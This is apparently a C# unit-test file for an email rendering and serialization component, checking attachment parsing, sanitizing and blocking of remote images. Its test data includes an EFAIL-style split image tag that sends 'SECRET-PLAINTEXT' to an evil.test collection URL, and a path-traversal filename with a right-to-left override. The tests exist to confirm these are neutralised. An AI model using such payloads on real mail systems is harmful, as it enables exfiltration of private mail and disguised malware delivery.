using System.Text;
using System.Text.Json;
using MimeKit;
using OmePortal.Core.Mime;
using static OmePortal.Core.Tests.Mime.MimeTestData;

namespace OmePortal.Core.Tests.Mime;

public sealed class RenderModelTests
{
    public static TheoryData<string> Samples() => new(SampleNames);

    [Theory]
    [InlineData("01-dutch-policy-inline-logo-pdf.eml",
        "logo.png|image/png|72|179594558274.18247.15342881861526769260@contoso.test|True|base64",
        "Polisblad 2026 – De Vries.pdf|application/pdf|391||False|base64")]
    [InlineData("02-plain-latin9-card-number.eml")]
    [InlineData("03-forwarded-rfc822-cc.eml", "Uitslag bloedonderzoek.eml|message/rfc822|325||False|8bit")]
    [InlineData("04-large-attachment-unicode-filename.eml",
        "Concept-overeenkomst-Ŝpecial-ĳzer-€.docx|application/vnd.openxmlformats-officedocument.wordprocessingml.document|2097156||False|base64")]
    [InlineData("05-html-only-remote-images-tracking.eml")]
    [InlineData("06-reply-chain-calendar.eml", "invite.ics|text/calendar|203||False|base64")]
    [InlineData("07-bcc-recipient.eml", "minutes.txt|text/plain|7||False|base64")]
    [InlineData("08-rfc2231-filename-8bit.eml", "Übersicht Q4.csv|text/csv|26||False|base64")]
    public void Build_Sample_ListsAttachmentsWithDecodedNamesSizesAndContentIds(string name, params string[] expected)
    {
        var (parsed, stream) = ParseSample(name);
        using (stream)
        using (parsed.Message)
        {
            var actual = parsed.RenderModel.Attachments
                .Select(a => $"{a.FileName}|{a.ContentType}|{a.Size}|{a.ContentId}|{a.IsInline}|{a.TransferEncoding}")
                .ToArray();
            Assert.Equal(expected, actual);
            Assert.Equal(Enumerable.Range(0, expected.Length), parsed.RenderModel.Attachments.Select(a => a.Index));
        }
    }

    [Theory]
    [MemberData(nameof(Samples))]
    public void Build_Sample_EveryAttachmentByteRangeDecodesToMimeKitsContent(string name)
    {
        var bytes = Sample(name);
        var (parsed, stream) = ParseSample(name);
        using (stream)
        using (parsed.Message)
        {
            var leaves = Leaves(parsed.Message);
            foreach (var entry in parsed.RenderModel.Attachments)
            {
                Assert.True(entry.ContentOffset > 0, $"{entry.FileName} has no offset");
                Assert.True(entry.ContentOffset + entry.ContentLength <= bytes.Length);

                MimeEntity entity = entry.ContentType == "message/rfc822"
                    ? Assert.Single(leaves.OfType<MessagePart>())
                    : Assert.Single(leaves.OfType<MimePart>(), p => p.FileName == entry.FileName);
                var expected = MimeKitContent(entity);

                var fromRange = DecodeRange(bytes, entry.ContentOffset, entry.ContentLength, entry.TransferEncoding);
                Assert.True(expected.AsSpan().SequenceEqual(fromRange), $"{entry.FileName}: byte range does not decode to the part's content");
                Assert.Equal(expected.Length, entry.Size);

                using var original = new MemoryStream(bytes);
                using var opened = AttachmentContent.OpenDecoded(original, entry);
                using var copy = new MemoryStream();
                opened.CopyTo(copy);
                Assert.True(expected.AsSpan().SequenceEqual(copy.ToArray()), $"{entry.FileName}: OpenDecoded differs");
            }
        }
    }

    [Fact]
    public void Build_Sample01_HeadersHtmlWithCidAndTextBody()
    {
        var (parsed, stream) = ParseSample("01-dutch-policy-inline-logo-pdf.eml");
        using (stream)
        using (parsed.Message)
        {
            var model = parsed.RenderModel;
            Assert.Equal("Uw polis – wijziging per 1 januari 2026", model.Subject);
            Assert.Equal([new RenderAddress("Verzekeringen Contoso", "polis@contoso.test")], model.From);
            Assert.Equal([new RenderAddress("Jan de Vries", "jan.devries@example.nl")], model.To);
            Assert.Empty(model.Cc);
            Assert.Equal(new DateTimeOffset(2026, 11, 28, 10, 15, 0, TimeSpan.Zero), model.Date);
            Assert.Equal("179594558274.18247.2572348992239156746@contoso.test", model.MessageId);
            Assert.StartsWith("Beste heer De Vries,", model.TextBody);
            Assert.Contains("IBAN NL91ABNA0417164300", model.TextBody);

            using var html = ParseHtml(model.HtmlBody!);
            var part = Assert.Single(html.QuerySelectorAll("div.ome-part"));
            Assert.Equal("cid:179594558274.18247.15342881861526769260@contoso.test", part.QuerySelector("img")!.GetAttribute("src"));
            Assert.Contains("polisblad", part.TextContent);
            Assert.Equal(0, model.BlockedRemoteImages);
            AssertSafe(model.HtmlBody!);
        }
    }

    [Fact]
    public void Build_Sample02_Latin9TextBodyDecoded()
    {
        var (parsed, stream) = ParseSample("02-plain-latin9-card-number.eml");
        using (stream)
        using (parsed.Message)
        {
            Assert.Null(parsed.RenderModel.HtmlBody);
            Assert.Contains("Saldo: € 1.234,56.", parsed.RenderModel.TextBody);
            Assert.Contains("Één betaling is geweigerd.", parsed.RenderModel.TextBody);
            Assert.Empty(parsed.RenderModel.Attachments);
        }
    }

    [Fact]
    public void Build_Sample03_CcAndForwardedMessageAsOneAttachment()
    {
        var (parsed, stream) = ParseSample("03-forwarded-rfc822-cc.eml");
        using (stream)
        using (parsed.Message)
        {
            Assert.Equal([new RenderAddress("Partner", "partner@example.org")], parsed.RenderModel.Cc);
            Assert.Equal("Zie de doorgestuurde uitslag hieronder.", parsed.RenderModel.TextBody!.Trim());
            var attached = Assert.Single(parsed.RenderModel.Attachments);
            Assert.Equal("message/rfc822", attached.ContentType);
        }
    }

    [Fact]
    public void Build_Sample05_RemoteImagesBlockedLinkKept()
    {
        var (parsed, stream) = ParseSample("05-html-only-remote-images-tracking.eml");
        using (stream)
        using (parsed.Message)
        {
            var model = parsed.RenderModel;
            Assert.Null(model.TextBody);
            Assert.Equal(2, model.BlockedRemoteImages);
            using var html = ParseHtml(model.HtmlBody!);
            Assert.All(html.QuerySelectorAll("img"), img => Assert.Null(img.GetAttribute("src")));
            Assert.Contains(html.QuerySelectorAll("img"),
                img => img.GetAttribute(EmailHtmlSanitizer.RemoteSrcAttribute) == "https://track.example.com/open.gif?u=alice");
            var link = Assert.Single(html.QuerySelectorAll("a"));
            Assert.Equal("https://bank.contoso.test/statements", link.GetAttribute("href"));
            Assert.Equal("_blank", link.GetAttribute("target"));
            AssertSafe(model.HtmlBody!);
        }
    }

    [Fact]
    public void Build_Sample06_ThreadHeaders()
    {
        var (parsed, stream) = ParseSample("06-reply-chain-calendar.eml");
        using (stream)
        using (parsed.Message)
        {
            Assert.Equal("orig-1@example.net", parsed.RenderModel.InReplyTo);
            Assert.Equal(["orig-0@example.net", "orig-1@example.net"], parsed.RenderModel.References);
            Assert.Equal(2, parsed.RenderModel.To.Count);
        }
    }

    [Fact]
    public void Build_Sample07_TextAttachmentIsNotTheBody()
    {
        var (parsed, stream) = ParseSample("07-bcc-recipient.eml");
        using (stream)
        using (parsed.Message)
        {
            Assert.Equal("Minutes attached.", parsed.RenderModel.TextBody!.Trim());
            Assert.Equal("minutes.txt", Assert.Single(parsed.RenderModel.Attachments).FileName);
        }
    }

    [Fact]
    public void Build_Sample08_EncodedWordsDecoded()
    {
        var (parsed, stream) = ParseSample("08-rfc2231-filename-8bit.eml");
        using (stream)
        using (parsed.Message)
        {
            Assert.Equal("Übersicht Q4", parsed.RenderModel.Subject);
            Assert.Equal("Jürgen Müller", parsed.RenderModel.From.Single().Name);
            Assert.Equal("Hallo Eva, anbei die Übersicht für Q4.", parsed.RenderModel.TextBody!.Trim());
        }
    }

    [Fact]
    public void Build_EfailImgSplitAcrossTwoHtmlParts_CannotJoinIntoOneUrl()
    {
        var parsed = ParseText(
            "From: attacker@evil.test\r\nTo: victim@example.org\r\nSubject: efail\r\nMIME-Version: 1.0\r\n" +
            "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n" +
            "--b\r\nContent-Type: text/html\r\n\r\n<img src=\"https://evil.test/collect?\r\n" +
            "--b\r\nContent-Type: text/html\r\n\r\nSECRET-PLAINTEXT\">tail\r\n" +
            "--b--\r\n");
        using (parsed.Message)
        {
            var body = parsed.RenderModel.HtmlBody!;
            using var html = ParseHtml(body);
            var parts = html.Body!.Children.ToList();
            Assert.Equal(2, parts.Count);
            Assert.All(parts, p => Assert.Equal("ome-part", p.ClassName));
            Assert.DoesNotContain(AllElements(html).SelectMany(e => e.Attributes), a => a.Value.Contains("SECRET", StringComparison.Ordinal));
            Assert.Contains("SECRET-PLAINTEXT", parts[1].TextContent);
            AssertSafe(body);
        }
    }

    [Fact]
    public void Build_InlineImageNotReferenced_IsNotInlineAndUnnamedPartsGetDefaultNames()
    {
        var parsed = ParseText(
            "From: a@contoso.test\r\nTo: b@example.org\r\nSubject: parts\r\nMIME-Version: 1.0\r\n" +
            "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n" +
            "--b\r\nContent-Type: text/html\r\n\r\n<p>no images here</p>\r\n" +
            "--b\r\nContent-Type: image/png\r\nContent-ID: <unused@x>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n" +
            "--b\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n" +
            "--b\r\nContent-Type: application/x-ome-unknown\r\n\r\nraw\r\n" +
            "--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"..\\\\..\\\\secret\\\\in\u202Efdp.exe\"\r\n\r\nx\r\n" +
            "--b--\r\n");
        using (parsed.Message)
        {
            var attachments = parsed.RenderModel.Attachments;
            Assert.Equal(["attachment-1.png", "attachment-2.pdf", "attachment-3.bin", "infdp.exe"], attachments.Select(a => a.FileName).ToArray());
            Assert.Equal("unused@x", attachments[0].ContentId);
            Assert.False(attachments[0].IsInline);
            Assert.Null(parsed.RenderModel.TextBody);
        }
    }

    [Fact]
    public void Build_WithoutOffsets_MarksRangesUnknown()
    {
        var (parsed, stream) = ParseSample("07-bcc-recipient.eml");
        using (stream)
        using (parsed.Message)
        {
            var model = new RenderModelBuilder(EmailHtmlSanitizer.Default).Build(parsed.Message);

            var entry = Assert.Single(model.Attachments);
            Assert.Equal(-1, entry.ContentOffset);
            Assert.Equal(7, entry.Size);
            Assert.Throws<InvalidOperationException>(() => AttachmentContent.OpenDecoded(stream, entry));
        }
    }

    [Fact]
    public void Serializer_RoundTrip_PreservesEveryField()
    {
        var (parsed, stream) = ParseSample("01-dutch-policy-inline-logo-pdf.eml");
        using (stream)
        using (parsed.Message)
        {
            var original = parsed.RenderModel;

            var json = RenderModelSerializer.Serialize(original);
            var copy = RenderModelSerializer.Deserialize(json);

            AssertEquivalent(original, copy);
            Assert.NotEmpty(copy.Attachments);
            using var viaStream = new MemoryStream(json);
            AssertEquivalent(original, RenderModelSerializer.Deserialize(viaStream));
        }
    }

    [Fact]
    public void Serializer_RoundTrip_ModelWithEveryFieldSet()
    {
        var original = new RenderModel
        {
            PolicyVersion = 7,
            Subject = "Re: \"quotes\" & <tags> – ü",
            From = [new RenderAddress(null, "a@example.org")],
            To = [new RenderAddress("B", "b@example.org"), new RenderAddress(null, "c@example.org")],
            Cc = [new RenderAddress("D", "d@example.org")],
            ReplyTo = [new RenderAddress("R", "r@example.org")],
            Date = new DateTimeOffset(2026, 1, 2, 3, 4, 5, TimeSpan.FromHours(1)),
            MessageId = "m@x",
            InReplyTo = "p@x",
            References = ["o@x", "p@x"],
            HtmlBody = "<div class=\"ome-part\"><p>hi</p></div>",
            HtmlBodyTruncated = true,
            TextBody = "hi\r\n",
            BlockedRemoteImages = 3,
            Attachments = [new AttachmentEntry(0, "a.pdf", "application/pdf", 10, "cid@x", true, 100, 20, "base64")],
        };

        var copy = RenderModelSerializer.Deserialize(RenderModelSerializer.Serialize(original));

        AssertEquivalent(original, copy);
    }

    [Theory]
    [InlineData("<div class=\"ome-part\"><p>hi</p></div>", "plain text", RenderModel.OmittedBody, RenderModel.OmittedBody)]
    [InlineData(null, "", null, "")]
    [InlineData("", null, "", null)]
    public void Summary_KeepsEverythingButTheBodiesText(string? html, string? text, string? expectedHtml, string? expectedText)
    {
        var original = new RenderModel
        {
            PolicyVersion = 7,
            Subject = "Quarterly figures",
            From = [new RenderAddress("A", "a@example.org")],
            To = [new RenderAddress(null, "b@example.org")],
            HtmlBody = html,
            TextBody = text,
            HtmlBodyTruncated = true,
            BlockedRemoteImages = 2,
            Attachments = [new AttachmentEntry(0, "a.pdf", "application/pdf", 10, null, false, 100, 20, "base64")],
        };

        // Read from the stored model and from the summary stored alone (sealed in the message row): the same.
        foreach (var stored in new[] { RenderModelSerializer.Serialize(original), RenderModelSerializer.SerializeSummary(original) })
        {
            AssertSummaryOf(original, RenderModelSerializer.DeserializeSummary(stored), expectedHtml, expectedText);
        }
    }

    private static void AssertSummaryOf(RenderModel original, RenderModel summary, string? expectedHtml, string? expectedText)
    {
        Assert.True(summary.BodiesOmitted);
        Assert.False(RenderModelSerializer.Deserialize(RenderModelSerializer.Serialize(original)).BodiesOmitted);
        Assert.Equal(expectedHtml, summary.HtmlBody);
        Assert.Equal(expectedText, summary.TextBody);
        Assert.Equal(original.Subject, summary.Subject);
        Assert.Equal(original.From, summary.From);
        Assert.Equal(original.To, summary.To);
        Assert.Equal(original.Attachments, summary.Attachments);
        Assert.True(summary.HtmlBodyTruncated);
        Assert.Equal(2, summary.BlockedRemoteImages);
        Assert.Equal(7, summary.PolicyVersion);
    }

    [Fact]
    public void SummaryAlone_HoldsNoBodyText_AndCannotBeReadAsAModelOrBody()
    {
        var original = new RenderModel { PolicyVersion = 4, Subject = "Figures", HtmlBody = "<p>HTMLSECRET</p>", TextBody = "TEXTSECRET" };

        var stored = RenderModelSerializer.SerializeSummary(original);

        Assert.Equal(0x02, stored[0]);
        var text = Encoding.UTF8.GetString(stored);
        Assert.Contains("\"subject\":\"Figures\"", text);
        Assert.DoesNotContain("SECRET", text);
        Assert.DoesNotContain("\"htmlBody\"", text);
        Assert.DoesNotContain("\"textBody\"", text);

        // A summary handed to the full reader or the body frame is a mistake that must not pass for an empty body.
        Assert.Throws<JsonException>(() => RenderModelSerializer.Deserialize(stored));
        Assert.Throws<JsonException>(() => RenderModelSerializer.CopyHtmlBody(stored));

        // A summary of a summary says the same (bodies there, not what they are).
        var again = RenderModelSerializer.DeserializeSummary(RenderModelSerializer.SerializeSummary(RenderModelSerializer.DeserializeSummary(stored)));
        Assert.Equal((RenderModel.OmittedBody, RenderModel.OmittedBody, "Figures"), (again.HtmlBody, again.TextBody, again.Subject));
    }

    [Theory]
    [InlineData(new byte[] { 0x02 })]
    [InlineData(new byte[] { 0x02, 0, 3, (byte)'{', (byte)'}' })]
    [InlineData(new byte[] { 0x02, 9, 0, (byte)'{', (byte)'}' })]
    [InlineData(new byte[] { 0x02, 0, 0, (byte)'[', (byte)']' })]
    public void SummaryAlone_Damaged_IsRefused(byte[] damaged) =>
        Assert.Throws<JsonException>(() => RenderModelSerializer.DeserializeSummary(damaged));

    [Theory]
    [InlineData("<p class=\"x\">a &amp; b – ü \u2028 😀 <a href='y'>\\</a></p>")]
    [InlineData("")]
    public void CopyHtmlBody_IsTheBodysUtf8_Unescaped(string html)
    {
        var json = RenderModelSerializer.Serialize(new RenderModel { PolicyVersion = 1, Subject = "s", HtmlBody = html, TextBody = "t" });
        using var copied = RenderModelSerializer.CopyHtmlBody(json);
        Assert.NotNull(copied);
        Assert.Equal(Encoding.UTF8.GetBytes(html), copied.Span.ToArray());
    }

    [Fact]
    public void CopyHtmlBody_WithoutABody_IsNull_AndNotAModelIsRefused()
    {
        Assert.Null(RenderModelSerializer.CopyHtmlBody(RenderModelSerializer.Serialize(new RenderModel { PolicyVersion = 1, TextBody = "only text" })));
        Assert.Null(RenderModelSerializer.CopyHtmlBody("{\"policyVersion\":1,\"attachments\":[{\"htmlBody\":\"nested, not the body\"}]}"u8));
        Assert.Throws<JsonException>(() => RenderModelSerializer.CopyHtmlBody("[]"u8));
        Assert.Throws<JsonException>(() => RenderModelSerializer.CopyHtmlBody("{\"htmlBody\":1}"u8));
    }

    [Fact]
    public void Summary_OfALargeBody_DoesNotAllocateTheBody()
    {
        var json = RenderModelSerializer.Serialize(new RenderModel { PolicyVersion = 1, HtmlBody = new string('x', 200_000), TextBody = new string('y', 200_000) });
        RenderModelSerializer.DeserializeSummary(json); // warm up: the first call builds the contract

        var before = GC.GetAllocatedBytesForCurrentThread();
        var summary = RenderModelSerializer.DeserializeSummary(json);
        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        Assert.Equal(RenderModel.OmittedBody, summary.HtmlBody);
        Assert.True(allocated < 50_000, $"the summary allocated {allocated} bytes for 400 000 characters of bodies");
        Assert.Throws<JsonException>(() => RenderModelSerializer.DeserializeSummary("{\"htmlBody\":42}"u8));
    }

    [Fact]
    public void Serializer_StoresTheBodiesAfterTheJson_SoASummaryNeverParsesThem()
    {
        var html = "<p>\"body\" – ü 😀</p>";
        var stored = RenderModelSerializer.Serialize(new RenderModel { PolicyVersion = 3, Subject = "s", HtmlBody = html, TextBody = "text" });

        Assert.Equal(0x01, stored[0]);
        var summaryLength = BitConverter.ToInt32(stored, 1);
        var json = Encoding.UTF8.GetString(stored, 13, summaryLength);
        Assert.Contains("\"subject\":\"s\"", json);
        Assert.DoesNotContain("\"htmlBody\"", json);
        Assert.DoesNotContain("\"textBody\"", json);
        Assert.DoesNotContain("text", json);
        Assert.Equal(Encoding.UTF8.GetBytes(html + "text"), stored[(13 + summaryLength)..]);

        var full = RenderModelSerializer.Deserialize(stored);
        Assert.Equal(html, full.HtmlBody);
        Assert.Equal("text", full.TextBody);
        Assert.Throws<InvalidOperationException>(() => RenderModelSerializer.Serialize(RenderModelSerializer.DeserializeSummary(stored)));
    }

    [Fact]
    public void Serializer_ReadsModelsStoredAsOneJsonDocument()
    {
        // The layout of render models stored before the bodies were kept apart.
        var legacy = "{\"policyVersion\":2,\"subject\":\"old\",\"htmlBody\":\"<p>a \\u0026 b</p>\",\"textBody\":\"\"}"u8.ToArray();

        var full = RenderModelSerializer.Deserialize(legacy);
        var summary = RenderModelSerializer.DeserializeSummary(legacy);
        using var html = RenderModelSerializer.CopyHtmlBody(legacy);

        Assert.Equal(("old", "<p>a & b</p>", ""), (full.Subject, full.HtmlBody, full.TextBody));
        Assert.Equal(("old", RenderModel.OmittedBody, ""), (summary.Subject, summary.HtmlBody, summary.TextBody));
        Assert.Equal("<p>a & b</p>"u8.ToArray(), html!.Span.ToArray());
        Assert.Equal(full.HtmlBody, RenderModelSerializer.Deserialize(RenderModelSerializer.Serialize(full)).HtmlBody);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(-1)]
    public void Serializer_RefusesAFrameWhoseLengthsDoNotAddUp(int delta)
    {
        var stored = RenderModelSerializer.Serialize(new RenderModel { PolicyVersion = 1, HtmlBody = "<p>x</p>", TextBody = "x" });
        var damaged = delta switch
        {
            0 => stored[..^1],
            1 => [.. stored, (byte)'x'],
            _ => stored[..5],
        };

        Assert.Throws<JsonException>(() => RenderModelSerializer.Deserialize(damaged));
        Assert.Throws<JsonException>(() => RenderModelSerializer.DeserializeSummary(damaged));
        Assert.Throws<JsonException>(() => RenderModelSerializer.CopyHtmlBody(damaged));
    }

    [Fact]
    public void Serializer_UsesCamelCaseAndToleratesNullLists()
    {
        var json = Encoding.UTF8.GetString(RenderModelSerializer.Serialize(new RenderModel { PolicyVersion = 1 }));
        Assert.Contains("\"policyVersion\":1", json);

        var model = RenderModelSerializer.Deserialize("{\"policyVersion\":1,\"attachments\":null,\"to\":null}"u8);
        Assert.Empty(model.Attachments);
        Assert.Empty(model.To);
        Assert.Throws<JsonException>(() => RenderModelSerializer.Deserialize("null"u8));
    }

    private static void AssertEquivalent(RenderModel expected, RenderModel actual)
    {
        Assert.Equal(expected.PolicyVersion, actual.PolicyVersion);
        Assert.Equal(expected.Subject, actual.Subject);
        Assert.Equal(expected.From, actual.From);
        Assert.Equal(expected.To, actual.To);
        Assert.Equal(expected.Cc, actual.Cc);
        Assert.Equal(expected.ReplyTo, actual.ReplyTo);
        Assert.Equal(expected.Date, actual.Date);
        Assert.Equal(expected.Date?.Offset, actual.Date?.Offset);
        Assert.Equal(expected.MessageId, actual.MessageId);
        Assert.Equal(expected.InReplyTo, actual.InReplyTo);
        Assert.Equal(expected.References, actual.References);
        Assert.Equal(expected.HtmlBody, actual.HtmlBody);
        Assert.Equal(expected.HtmlBodyTruncated, actual.HtmlBodyTruncated);
        Assert.Equal(expected.TextBody, actual.TextBody);
        Assert.Equal(expected.BlockedRemoteImages, actual.BlockedRemoteImages);
        Assert.Equal(expected.Attachments, actual.Attachments);
    }
}
